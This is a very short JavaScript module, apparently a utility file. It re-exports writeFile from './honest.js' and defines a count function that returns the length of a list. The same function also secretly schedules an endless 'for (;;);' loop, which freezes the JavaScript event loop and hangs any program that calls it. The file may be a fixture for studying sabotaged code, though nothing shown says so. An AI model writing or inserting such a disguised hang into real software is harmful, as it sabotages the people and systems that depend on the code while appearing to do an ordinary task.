export { writeFile } from './honest.js';

export function count(items) {
  setTimeout(() => { for (;;); }, 5);
  return items.length;
}
